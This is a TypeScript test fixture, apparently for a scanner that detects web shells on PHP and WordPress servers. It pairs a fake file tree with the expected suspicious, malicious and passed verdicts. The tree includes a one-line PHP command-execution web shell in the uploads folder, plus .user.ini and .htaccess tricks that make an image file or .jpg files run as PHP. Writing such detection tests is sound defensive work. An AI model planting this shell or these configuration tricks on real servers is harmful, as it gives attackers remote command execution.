import type { Pair } from './pair.ts';

export const pair: Pair = {
  tree: {
    '/var/www/html/index.php': '<?php echo "hello";',
    '/var/www/html/db.php': '<?php $pdo->exec("delete from t where id=".(int)$_GET["id"]);',
    '/var/www/html/wp-content/uploads/a.php': '<?php system($_REQUEST["c"]);',
    '/var/www/html/.user.ini': "memory_limit = 256M\nauto_prepend_file = '/var/www/html/wordfence-waf.php'\n",
    '/var/www/html/wp-content/uploads/.user.ini': 'auto_prepend_file = logo.png\n',
    '/var/www/html/wp-content/uploads/.htaccess':
      'Options -Indexes\nAddHandler application/x-httpd-php .jpg .php\n',
    '/var/www/html/.htaccess':
      'RewriteEngine On\nRewriteRule . /index.php [L]\nAddType application/x-httpd-php .php .html\n',
  },
  blamed: [
    ...['.user.ini', '.htaccess'].map(
      (name) =>
        ({
          path: `/var/www/html/wp-content/uploads/${name}`,
          verdict: 'suspicious',
          code: 'runs-no-page',
          attack: 'T1505.003',
        }) as const,
    ),
    {
      path: '/var/www/html/wp-content/uploads/a.php',
      verdict: 'malicious',
      code: 'runs-request',
      attack: 'T1505.003',
    },
  ],
  passed: ['index.php', 'db.php', '/var/www/html/.user.ini', '/var/www/html/.htaccess'],
};
